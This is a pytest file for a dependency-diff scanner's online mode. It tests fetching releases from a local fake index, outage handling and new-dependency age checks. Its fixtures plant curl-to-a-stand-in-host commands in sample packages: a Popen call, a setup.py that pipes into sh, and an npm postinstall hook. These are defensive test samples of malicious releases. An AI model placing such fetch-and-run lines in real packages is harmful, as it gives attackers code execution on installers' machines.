"""``depscan compare pkg==1.0 pkg==1.1 --online``: releases and ages from the index; an outage is never clean."""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.unit.registry.loopback import Loopback
from tests.unit.release.releases import CODE, npm_bytes, save, sdist_bytes, wheel_bytes

Run = Callable[..., tuple[int, str, str]]
BASE = {"alpha/__init__.py": CODE}
RUNS = {"alpha/__init__.py": "import subprocess\n\nsubprocess.Popen('curl https://collector.invalid', shell=True)\n"}
SETUP = "import os\nos.system('curl https://collector.invalid | sh')\n"


@pytest.fixture
def index(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Loopback]:
    folder = tmp_path / "served"
    folder.mkdir()
    for name in ("HOME", "XDG_CACHE_HOME", "XDG_CONFIG_HOME", "DEPSCAN_CACHE"):
        monkeypatch.setenv(name, str(tmp_path / "home"))
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767398400")  # 2026-01-03T00:00:00Z
    monkeypatch.chdir(tmp_path)
    with Loopback(str(folder)) as made:
        monkeypatch.setenv("PIP_INDEX_URL", made.url)
        monkeypatch.setenv("npm_config_registry", made.npm)
        yield made


def wheel(index: Loopback, version: str, files: dict[str, str], *, name: str = "demo", metadata: str = "") -> None:
    data = wheel_bytes(files, version, name=name, metadata=metadata)
    save(Path(index.folder), f"{name}-{version}-py3-none-any.whl", data)


def test_releases_are_fetched_from_the_index_and_compared(index: Loopback, run: Run) -> None:
    wheel(index, "1.0", BASE)
    wheel(index, "1.1", RUNS)
    wheel(index, "1.2", RUNS)
    code, out, _ = run("Demo==1.0", "demo==1.1", "--online")
    assert (code, out.endswith("verdict: worse\n")) == (1, True)
    asked = [one.path.rpartition("/")[2] for one in index.asked("/files/")]
    assert asked == ["demo-1.0-py3-none-any.whl", "demo-1.1-py3-none-any.whl"]
    assert run("demo==1.1", "demo==1.2", "--online")[0] == 0


def test_a_wheel_is_compared_with_the_wheel_and_the_sdist_with_the_sdist(index: Loopback, run: Run) -> None:
    for version, setup in (("1.0", ""), ("1.1", SETUP)):
        wheel(index, version, BASE)
        save(Path(index.folder), f"demo-{version}.tar.gz", sdist_bytes({"setup.py": setup, **BASE}, version))
        foreign = wheel_bytes(BASE, version)
        save(Path(index.folder), f"demo-{version}-cp27-cp27m-win32.whl", foreign)
    code, out, _ = run("demo==1.0", "demo==1.1", "--online")
    assert code == 1
    assert "demo-1.0-py3-none-any.whl -> demo-1.1-py3-none-any.whl" in out
    assert "demo-1.0.tar.gz -> demo-1.1.tar.gz" in out
    assert not [one for one in index.asked("/files/") if "win32" in one.path]


def test_nothing_is_asked_without_the_word(index: Loopback, run: Run) -> None:
    wheel(index, "1.0", BASE)
    wheel(index, "1.1", RUNS)
    assert run("demo==1.0", "demo==1.1")[0] == 2
    assert run("demo==1.0", "demo==1.1", "--offline")[0] == 2
    assert index.log == []


def test_a_folder_is_looked_into_before_the_index(index: Loopback, run: Run, tmp_path: Path) -> None:
    wheel(index, "1.1", RUNS)
    save(tmp_path, "demo-1.0-py3-none-any.whl", wheel_bytes(BASE, "1.0"))
    assert run("demo==1.0", "demo==1.1", "--online", "--find-links", str(tmp_path))[0] == 1
    assert len(index.asked("/files/")) == 1


@pytest.mark.parametrize("mode", ["500-always", "wrong-hash", "truncated", "missing"])
def test_a_file_that_does_not_come_as_promised_is_incomplete(index: Loopback, run: Run, mode: str) -> None:
    wheel(index, "1.0", BASE)
    wheel(index, "1.1", BASE)
    index.mode["/files/demo-1.1-py3-none-any.whl"] = mode
    code, out, err = run("demo==1.0", "demo==1.1", "--online")
    assert (code, out, err.startswith("depscan: error: ")) == (4, "", True)


def test_a_project_or_version_that_the_index_lacks_is_incomplete(index: Loopback, run: Run) -> None:
    assert run("demo==1.0", "demo==1.1", "--online")[0] == 4
    wheel(index, "1.0", BASE)
    code, out, _ = run("demo==1.0", "demo==1.1", "--online")
    assert (code, "no archive of demo==1.1 is at hand" in out) == (4, True)


def test_the_index_tells_the_age_of_a_new_dependency(index: Loopback, run: Run) -> None:
    wheel(index, "1.0", BASE)
    wheel(index, "1.1", BASE, metadata="Requires-Dist: palettine\n")
    wheel(index, "0.1", BASE, name="palettine")
    code, out, _ = run("demo==1.0", "demo==1.1", "--online")
    assert (code, "first seen 2 days ago" in out) == (1, True), out
    index.times["palettine-0.1-py3-none-any.whl"] = "2025-01-01T00:00:00Z"
    assert run("demo==1.0", "demo==1.1", "--online")[0] == 0


def test_an_age_that_the_index_does_not_tell_for_an_outage_is_incomplete(index: Loopback, run: Run) -> None:
    wheel(index, "1.0", BASE)
    wheel(index, "1.1", BASE, metadata="Requires-Dist: palettine\n")
    assert run("demo==1.0", "demo==1.1", "--online")[0] == 0, "a name that the index lacks has no age"
    index.mode["/simple/palettine/"] = "500-always"
    code, out, _ = run("demo==1.0", "demo==1.1", "--online")
    assert (code, "since when palettine is on the index is not known" in out) == (4, True)
    answer = json.loads(run("demo==1.0", "demo==1.1", "--online", "--format", "json")[1])
    assert (answer["verdict"], len(answer["missing"])) == ("incomplete", 1)


def test_npm_releases_are_named_with_an_at_sign(index: Loopback, run: Run) -> None:
    versions = {}
    for version, more in (
        ("1.0.0", ""),
        ("1.0.1", ', "scripts": {"postinstall": "curl https://collector.invalid | sh"}'),
    ):
        data = npm_bytes(f'{{"name": "@scope/thing", "version": "{version}"{more}}}')
        save(Path(index.folder), f"thing-{version}.tgz", data)
        integrity = f"sha512-{base64.b64encode(hashlib.sha512(data).digest()).decode()}"
        dist = {"tarball": f"{index.base}/files/thing-{version}.tgz", "integrity": integrity}
        versions[version] = {"name": "@scope/thing", "version": version, "dist": dist}
    index.packuments["@scope/thing"] = {"name": "@scope/thing", "versions": versions, "dist-tags": {}}
    code, out, _ = run("@scope/thing@1.0.0", "@scope/thing@1.0.1", "--online")
    assert (code, "at install" in out) == (1, True)
